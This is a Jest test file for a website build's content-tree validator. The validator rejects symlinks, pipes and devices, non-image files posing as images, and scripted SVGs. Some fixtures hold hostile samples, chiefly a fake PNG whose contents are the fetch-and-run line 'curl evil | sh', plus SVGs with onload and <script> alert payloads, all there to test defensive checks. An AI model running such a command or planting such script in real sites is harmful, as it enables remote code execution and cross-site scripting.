import {
  CHECKED_FOLDERS,
  MEDIA_FOLDER_RULE,
  STATIC_RULE,
  contentTreeProblems,
  headBytes,
  isImagePath,
  isStaticSvg,
  isMediaPath,
  isStaticPath,
  treeEntryProblem,
  type TreeEntry,
} from '../../features/content/contentTree';
import { MEDIA_HEAD_BYTES } from '../../features/images/mediaFiles';
import { SVG_MAX_BYTES, SVG_RULE } from '../../features/images/staticSvg';

const ONLY_REGULAR = 'content/, locales/, static/ hold regular files and folders only';
const PNG = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const SVG = Uint8Array.from(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"></svg>'));

describe('treeEntryProblem', () => {
  it('checks the folders content comes from', () => {
    expect(CHECKED_FOLDERS).toEqual(['content', 'locales', 'static']);
  });

  it('passes folders, regular files, and images at the root of static/ and in the media folder', () => {
    for (const entry of [
      { path: 'content/blog', kind: 'directory' },
      { path: 'content/blog/en/a.md', kind: 'file' },
      { path: 'content/docs/en/example.html', kind: 'file' },
      { path: 'locales/en/common.json', kind: 'file' },
      { path: 'static/favicon.svg', kind: 'file', head: SVG },
      { path: 'static/logo.png', kind: 'file', head: PNG },
      { path: 'static/x', kind: 'directory' },
      { path: 'content/media/logo.png', kind: 'file', head: PNG },
      { path: 'content/media/2026/chart.PNG', kind: 'file', head: PNG },
      // A subfolder's name means nothing in the media folder, which is never published as it is.
      { path: 'content/media/admin/a.png', kind: 'file', head: PNG },
    ] as TreeEntry[]) {
      expect(treeEntryProblem(entry)).toBeUndefined();
    }
  });

  it('refuses a symbolic link wherever it points, naming where', () => {
    expect(treeEntryProblem({ path: 'content/media/passwd.png', kind: 'symlink', target: '/etc/passwd' })).toBe(
      `content/media/passwd.png is a symbolic link to /etc/passwd; ${ONLY_REGULAR}: put the file itself there instead of a link`,
    );
    expect(treeEntryProblem({ path: 'content/blog/en/copy.md', kind: 'symlink', target: '../../docs/en/readme.md' })).toBe(
      `content/blog/en/copy.md is a symbolic link to ../../docs/en/readme.md; ${ONLY_REGULAR}: put the file itself there instead of a link`,
    );
    expect(treeEntryProblem({ path: 'static', kind: 'symlink', target: '/home' })).toMatch(/^static is a symbolic link to \/home; /);
  });

  it('refuses pipes, sockets, devices and anything else that is not a file or a folder', () => {
    expect(treeEntryProblem({ path: 'content/home/en/hero.md', kind: 'fifo' })).toBe(`content/home/en/hero.md is a named pipe (FIFO); ${ONLY_REGULAR}`);
    expect(treeEntryProblem({ path: 'locales/en/x.sock', kind: 'socket' })).toBe(`locales/en/x.sock is a socket; ${ONLY_REGULAR}`);
    expect(treeEntryProblem({ path: 'static/sda', kind: 'block device' })).toBe(`static/sda is a block device; ${ONLY_REGULAR}`);
    expect(treeEntryProblem({ path: 'static/zero', kind: 'character device' })).toBe(`static/zero is a character device; ${ONLY_REGULAR}`);
    expect(treeEntryProblem({ path: 'static/door', kind: 'unknown' })).toBe(`static/door is neither a file nor a folder; ${ONLY_REGULAR}`);
  });

  it('refuses anything in static/ that is not an image by extension and contents', () => {
    for (const path of [
      'static/a.html',
      'static/b.HTM',
      'static/f.Html',
      'static/page.html.txt',
      'static/sw.js',
      'static/s.css',
      'static/m.webmanifest',
      'static/x.wasm',
      'static/d.json',
      'static/f.xml',
    ]) {
      expect(treeEntryProblem({ path, kind: 'file', head: PNG })).toBe(`${path} is a .${/\.([^.]+)$/.exec(path)?.[1]} file, not an image; ${STATIC_RULE}`);
    }
    expect(treeEntryProblem({ path: 'static/invoice.png', kind: 'file', head: Uint8Array.from(Buffer.from('#!/bin/sh\ncurl evil | sh\n')) })).toBe(
      `static/invoice.png is named .png but its contents are not a PNG image; ${STATIC_RULE}`,
    );
    expect(treeEntryProblem({ path: 'static/_redirects', kind: 'file', head: new Uint8Array() })).toBe(`static/_redirects has no extension, so it is not an image; ${STATIC_RULE}`);
    expect(treeEntryProblem({ path: 'static/no-head.png', kind: 'file' })).toBe(`static/no-head.png is named .png but its contents are not a PNG image; ${STATIC_RULE}`);
    expect(isStaticPath('static/a.png')).toBe(true);
    expect(isStaticPath('content/static/a.png')).toBe(false);
  });

  it('refuses anything in the media folder, in any subfolder, that is not an image by extension and contents', () => {
    expect(MEDIA_FOLDER_RULE).toBe(
      'content/media/, where the CMS uploads, holds images only (whose contents match their extension: .png, .jpg, .jpeg, .gif, .webp, .avif, .ico, .svg)',
    );
    for (const path of ['content/media/f.Html', 'content/media/2026/page.html', 'content/media/sw.js', 'content/media/notes.md']) {
      expect(treeEntryProblem({ path, kind: 'file', head: PNG })).toBe(`${path} is a .${/\.([^.]+)$/.exec(path)?.[1]} file, not an image; ${MEDIA_FOLDER_RULE}`);
    }
    expect(treeEntryProblem({ path: 'content/media/invoice.png', kind: 'file', head: Uint8Array.from(Buffer.from('#!/bin/sh\ncurl evil | sh\n')) })).toBe(
      `content/media/invoice.png is named .png but its contents are not a PNG image; ${MEDIA_FOLDER_RULE}`,
    );
    expect(treeEntryProblem({ path: 'content/media/README', kind: 'file', head: new Uint8Array() })).toBe(
      `content/media/README has no extension, so it is not an image; ${MEDIA_FOLDER_RULE}`,
    );
    expect(treeEntryProblem({ path: 'content/media/no-head.png', kind: 'file' })).toBe(
      `content/media/no-head.png is named .png but its contents are not a PNG image; ${MEDIA_FOLDER_RULE}`,
    );
    expect(isMediaPath('content/media/a.png')).toBe(true);
    expect(isMediaPath('content/mediaX/a.png')).toBe(false);
    expect(isMediaPath('static/media/a.png')).toBe(false);
    expect(isImagePath('content/media/2026/a.png')).toBe(true);
    expect(isImagePath('static/a.png')).toBe(true);
    expect(isImagePath('content/blog/en/a.png')).toBe(false);
  });

  it('refuses an image where the build writes, in another folder, or hidden', () => {
    const built = new Set(['/favicon.ico', '/share/en.png']);
    const problem = (path: string) => treeEntryProblem({ path, kind: 'file', head: PNG }, built)?.replace(`; ${STATIC_RULE}`, '');
    expect(problem('static/favicon.ico')).toBe('static/favicon.ico is at /favicon.ico, which the build writes itself: rename it');
    for (const folder of ['admin', 'page-data', '_gatsby', 'pagefind', 'static', '~partytown']) {
      expect(problem(`static/${folder}/x/y.png`)).toBe(`static/${folder}/x/y.png is under /${folder}/, where the build writes its own files`);
    }
    expect(problem('static/share/en.png')).toBe("static/share/en.png is in a folder static/ does not publish: move an editor's image into content/media/");
    expect(problem('static/mediaX/a.png')).toBe("static/mediaX/a.png is in a folder static/ does not publish: move an editor's image into content/media/");
    // The media folder's old place: an image left there is no longer published.
    expect(problem('static/media/photo.png')).toBe("static/media/photo.png is in a folder static/ does not publish: move an editor's image into content/media/");
    expect(problem('static/media/admin/a.png')).toBe("static/media/admin/a.png is in a folder static/ does not publish: move an editor's image into content/media/");
    expect(problem('static/.a.png')).toBe('static/.a.png is hidden (a dotfile, or in a dot folder), which a server may not serve alike everywhere');
    expect(problem('static/media/2026/.git/a.png')).toBe('static/media/2026/.git/a.png is hidden (a dotfile, or in a dot folder), which a server may not serve alike everywhere');
  });
});

describe('the images of static/', () => {
  it('reads all of an SVG of static/, to one byte over its limit, and the head of any other image', () => {
    expect([headBytes('static/favicon.svg'), headBytes('static/Logo.SVG'), headBytes('static/logo.png'), headBytes('content/media/logo.svg')]).toEqual([
      SVG_MAX_BYTES + 1,
      SVG_MAX_BYTES + 1,
      MEDIA_HEAD_BYTES,
      MEDIA_HEAD_BYTES,
    ]);
    expect([isStaticSvg('static/a.svg'), isStaticSvg('static/a.png'), isStaticSvg('content/media/a.svg')]).toEqual([true, false, false]);
  });

  it('holds an SVG of static/ to the drawings’ allowlist, naming each offending line under the file', () => {
    const svg = Uint8Array.from(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">\n<script>alert(2)</script></svg>'));
    expect(treeEntryProblem({ path: 'static/logo.svg', kind: 'file', head: svg })?.split('\n')).toEqual([
      `static/logo.svg is not a drawing the site publishes as it is; ${SVG_RULE}:`,
      expect.stringMatching(/^ {6}line 1: onload="alert\(1\)" on <svg> is an event handler, which runs script; /),
      "      line 2: <script> is not one of a drawing's elements",
    ]);
    // The media folder's SVGs are never published (the image step refuses one a page shows): their bytes are only checked to be an SVG.
    expect(treeEntryProblem({ path: 'content/media/logo.svg', kind: 'file', head: svg })).toBeUndefined();
    // Read as XML whole, not sniffed: what is wrong is named, even in what is no SVG at all.
    expect(treeEntryProblem({ path: 'static/page.svg', kind: 'file', head: Uint8Array.from(Buffer.from('<html><script>alert(1)</script></html>')) })?.split('\n')).toEqual([
      `static/page.svg is not a drawing the site publishes as it is; ${SVG_RULE}:`,
      '      line 1: the drawing starts with <html>; it starts with <svg xmlns="http://www.w3.org/2000/svg">',
      "      line 1: <html> is not one of a drawing's elements",
      "      line 1: <script> is not one of a drawing's elements",
    ]);
  });

  it('refuses an icon in static/: the build cannot re-encode it', () => {
    expect(STATIC_RULE).toBe(
      "static/ holds the site's own images at its root only (whose contents match their extension: .png, .jpg, .jpeg, .gif, .webp, .avif, .svg); editors' images go in content/media/",
    );
    expect(treeEntryProblem({ path: 'static/apple.ICO', kind: 'file', head: Uint8Array.from([0, 0, 1, 0, 1, 0]) })).toBe(
      `static/apple.ICO is an icon (.ico), which the build cannot re-encode, so it cannot publish it; ${STATIC_RULE}: make it a PNG`,
    );
  });
});

describe('contentTreeProblems', () => {
  it('names every problem once, in path order', () => {
    expect(
      contentTreeProblems(
        [
          { path: 'static/z.html', kind: 'file' },
          { path: 'content/a', kind: 'fifo' },
          { path: 'content/ok.md', kind: 'file' },
          { path: 'static/favicon.ico', kind: 'file', head: Uint8Array.from([0, 0, 1, 0, 1, 0]) },
        ],
        new Set(['/favicon.ico']),
      ),
    ).toEqual([
      expect.stringMatching(/^content\/a is a named pipe/),
      expect.stringMatching(/^static\/favicon\.ico is at \/favicon\.ico, which the build writes itself/),
      expect.stringMatching(/^static\/z\.html is a \.html file, not an image/),
    ]);
    expect(contentTreeProblems([])).toEqual([]);
  });
});
